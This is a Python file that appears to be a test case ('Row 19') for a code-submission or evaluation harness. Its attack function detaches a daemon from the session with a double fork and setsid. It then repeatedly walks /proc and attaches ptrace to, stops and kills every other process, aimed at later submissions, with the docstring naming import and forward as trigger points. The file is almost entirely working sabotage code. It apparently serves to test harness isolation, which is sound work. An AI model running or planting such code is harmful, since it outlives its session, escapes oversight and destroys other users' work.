"""Row 19: a process of its own, out of the session, waits for the next submission's processes to stop, kill and trace them.

Where: import, forward
"""

import torch
from torch import ctypes, nn, os, sys

time = sys.modules["time"]


def attack(*_):
    try:
        if os.fork():
            return
        os.setsid()
        if os.fork():
            os._exit(0)
    except OSError:
        return
    libc = ctypes.CDLL(None)
    for _ in range(1000):
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) not in (os.getpid(), os.getppid()):
                for harm in (
                    lambda pid: libc.ptrace(16, pid, 0, 0),
                    lambda pid: os.kill(pid, 19),
                    lambda pid: os.kill(pid, 9),
                ):
                    try:
                        harm(int(name))
                    except OSError:
                        continue
        time.sleep(0.01)
    os._exit(0)
